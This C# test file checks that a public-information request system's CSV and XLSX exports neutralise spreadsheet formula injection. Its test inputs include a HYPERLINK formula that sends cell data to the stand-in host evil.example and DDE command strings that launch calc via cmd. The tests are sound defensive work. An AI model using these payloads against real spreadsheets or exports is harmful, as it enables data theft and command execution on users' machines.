using System.Globalization;
using System.IO.Compression;
using System.Text;
using CsvHelper;
using SipPpid.Features.RegisterImport;
using SipPpid.Features.Requests;
using SipPpid.Infrastructure.Csv;
using SipPpid.Tests.Objections;
using SipPpid.Tests.Support;

namespace SipPpid.Tests.Security;

/// <summary>
/// CSV formula injection (issue 12 item 3): applicant text that a spreadsheet would run as a formula is written
/// as text (a leading single quote, quoted) in every CSV the product writes; numbers stay numbers; XLSX keeps
/// text as text.
/// </summary>
public abstract class CsvInjectionTests<TApp>(TApp app) : IClassFixture<TApp>, IAsyncLifetime where TApp : AppFactory
{
    public async Task InitializeAsync() => await app.SeedDemoAsync();

    public Task DisposeAsync() => Task.CompletedTask;

    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";

    [Fact]
    public async Task Register_and_objection_csv_write_formulas_as_text()
    {
        var input = Support.Requests.Valid("DINKES", Hyperlink);
        input.ApplicantAddress = "\t=1+1";
        input.ApplicantOccupation = "@SUM(1+1)*cmd|' /C calc'!A0";
        input.Purpose = "-2+3";
        input.InformationRequested = "+cmd|' /C calc'!A0";
        var request = await app.SubmitAsync(input);

        var utama = await app.SignedInAsync("utama@ppid.demo");
        var register = Rows(await utama.GetByteArrayAsync("/Requests?handler=Csv&Filter.Unit=DINKES"))
            .Single(r => r["registration_number"] == request.RegistrationNumber);
        Assert.Equal("'" + Hyperlink, register["applicant_name"]);
        Assert.Equal("'=1+1", register["applicant_address"]); // stored trimmed
        Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", register["applicant_occupation"]);
        Assert.Equal("'-2+3", register["purpose"]);
        Assert.Equal("'+cmd|' /C calc'!A0", register["information_requested"]);

        var rejected = await app.RejectedAsync("DINKES", "@Objektor");
        var objection = await app.FiledAtDeskAsync(rejected, "a");
        var objections = Rows(await utama.GetByteArrayAsync("/Objections?handler=Csv"))
            .Single(r => r["objection_number"] == objection.ObjectionNumber);
        Assert.Equal("'@Objektor", objections["applicant_or_proxy"]);

        // The register read back (the import's reader) gets the applicant's own text again.
        var csv = await utama.GetByteArrayAsync("/Requests?handler=Csv&Filter.Unit=DINKES");
        var (read, errors) = CsvTable.Read(new MemoryStream(csv), RegisterExport.Columns, []);
        Assert.Empty(errors);
        Assert.Equal(Hyperlink, read.Single(r => r["registration_number"] == request.RegistrationNumber).Cells["applicant_name"]);
    }

    [Fact]
    public async Task Register_xlsx_stores_formula_text_as_a_string_cell()
    {
        var request = await app.SubmitAsync(Support.Requests.Valid("DINKES", "=1+2"));
        var utama = await app.SignedInAsync("utama@ppid.demo");
        var bytes = await utama.GetByteArrayAsync("/Requests?handler=Xlsx&Filter.Unit=DINKES");

        using var zip = new ZipArchive(new MemoryStream(bytes));
        using var reader = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        var sheet = await reader.ReadToEndAsync();
        Assert.DoesNotContain("<x:f>", sheet, StringComparison.Ordinal);
        Assert.DoesNotContain("<f>", sheet, StringComparison.Ordinal);
        var rows = MiniExcelLibs.MiniExcel.Query(new MemoryStream(bytes), useHeaderRow: true).Cast<IDictionary<string, object?>>().ToList();
        var cell = rows.Single(r => (string?)r["Nomor pendaftaran"] == request.RegistrationNumber)["Nama pemohon"];
        Assert.Equal("=1+2", Assert.IsType<string>(cell));
    }

    private static List<Dictionary<string, string>> Rows(byte[] csv)
    {
        using var reader = new StreamReader(new MemoryStream(csv), Encoding.UTF8);
        using var parser = new CsvReader(reader, CultureInfo.InvariantCulture);
        parser.Read();
        parser.ReadHeader();
        var header = parser.HeaderRecord!;
        var rows = new List<Dictionary<string, string>>();
        while (parser.Read()) rows.Add(header.Select((h, i) => (h, v: parser.GetField(i)!)).ToDictionary(x => x.h, x => x.v));
        return rows;
    }
}

public sealed class CsvInjectionTestsSqlite(SqliteApp app) : CsvInjectionTests<SqliteApp>(app);

public sealed class CsvInjectionTestsPostgres(PostgresApp app) : CsvInjectionTests<PostgresApp>(app);

/// <summary>The writer itself, and the import's rejects file (no database involved).</summary>
public sealed class CsvWriterTests
{
    [Theory]
    [InlineData("=1+1", true)]
    [InlineData("+62 812", true)]
    [InlineData("-2+3", true)]
    [InlineData("@SUM(A1)", true)]
    [InlineData("\t=1+1", true)]
    [InlineData("\r=1+1", true)]
    [InlineData("  =1+1", true)]
    [InlineData("Budi = Andi", false)]
    [InlineData("", false)]
    [InlineData("'=1", false)]
    public void Formula_starts_are_recognised(string text, bool formula) => Assert.Equal(formula, CsvTable.LooksLikeFormula(text));

    [Fact]
    public void Text_is_neutralised_and_quoted_numbers_stay_numbers()
    {
        var csv = Encoding.UTF8.GetString(CsvTable.Write(["name", "count", "fee", "note"], [["=1+1", -5, -1.5m, "-5"]], byteOrderMark: false));
        Assert.Equal("name,count,fee,note\r\n\"'=1+1\",-5,-1.5,\"'-5\"\r\n", csv);
    }

    [Fact]
    public void Rejects_file_neutralises_the_rejected_cells()
    {
        var bytes = RegisterRejects.Csv(["applicant_name", "purpose"],
            [new ImportRegister.RejectedRow(2, new Dictionary<string, string> { ["applicant_name"] = "=HYPERLINK(\"x\")", ["purpose"] = "\r@x" }, "bad")]);
        var text = Encoding.UTF8.GetString(bytes);
        Assert.Contains("\"'=HYPERLINK(\"\"x\"\")\"", text, StringComparison.Ordinal);
        Assert.Contains("\"'\r@x\"", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", text, StringComparison.Ordinal);
    }
}
